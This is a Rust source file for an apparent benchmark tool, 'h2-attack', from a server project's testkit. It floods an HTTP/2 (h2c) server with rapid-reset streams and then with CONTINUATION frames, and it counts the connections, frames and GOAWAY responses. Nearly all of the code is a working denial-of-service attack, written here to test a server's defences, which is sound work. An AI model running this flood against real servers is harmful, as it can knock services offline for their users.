//! `h2-attack ADDR HOST SECONDS` — an HTTP/2 (h2c) attacker for the
//! benchmark: rapid reset (streams opened and cancelled at once) for the
//! first half of SECONDS, then CONTINUATION floods (a header block that
//! never ends) for the second, each on new connections as the server ends
//! them; prints `{"connections", "frames", "goaways"}` as JSON.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use switchyard_testkit::h2raw::*;

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let parsed = (|| {
        let addr: SocketAddr = args.first()?.parse().ok()?;
        let host = args.get(1)?.clone();
        let seconds: u64 = args.get(2)?.parse().ok()?;
        Some((addr, host, seconds))
    })();
    let Some((addr, host, seconds)) = parsed else {
        eprintln!("usage: h2-attack ADDR HOST SECONDS");
        std::process::exit(2);
    };
    let started = Instant::now();
    let half = started + Duration::from_secs(seconds) / 2;
    let end = started + Duration::from_secs(seconds);
    let (mut connections, mut frames, mut goaways) = (0u64, 0u64, 0u64);
    // At most one connection per 10 ms, whatever happens.
    while Instant::now() < end && connections < 100_000 {
        let pace = tokio::time::sleep(Duration::from_millis(10));
        let Ok((mut c, _)) = H2Conn::try_connect(addr, &[]).await else {
            pace.await;
            continue;
        };
        connections += 1;
        let rapid = Instant::now() < half;
        let limit = if rapid { half } else { end };
        let mut id = 1u32;
        // A bounded number of batches per connection.
        for _ in 0..10_000 {
            if Instant::now() >= limit {
                break;
            }
            let mut batch = Vec::new();
            if rapid {
                let block = request_block(&host, "/small");
                for _ in 0..100 {
                    batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &block));
                    batch.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                    id = id.wrapping_add(2);
                    frames += 2;
                }
            } else {
                if id == 1 {
                    batch.extend(frame(
                        HEADERS,
                        END_STREAM,
                        1,
                        &request_block(&host, "/small"),
                    ));
                    id = 3;
                }
                let mut block = Vec::new();
                for i in 0..32 {
                    hpack_literal(&mut block, &format!("x-flood-{i:02}"), &[b'v'; 16]);
                }
                for _ in 0..64 {
                    batch.extend(frame(CONTINUATION, 0, 1, &block));
                    frames += 1;
                }
            }
            if c.send(&batch).await.is_err() {
                break;
            }
        }
        let outcome = c
            .drain(Duration::from_millis(100), Duration::from_secs(1))
            .await;
        if outcome.goaway.is_some() {
            goaways += 1;
        }
        pace.await;
    }
    println!(
        "{}",
        serde_json::json!({"connections": connections, "frames": frames, "goaways": goaways})
    );
}
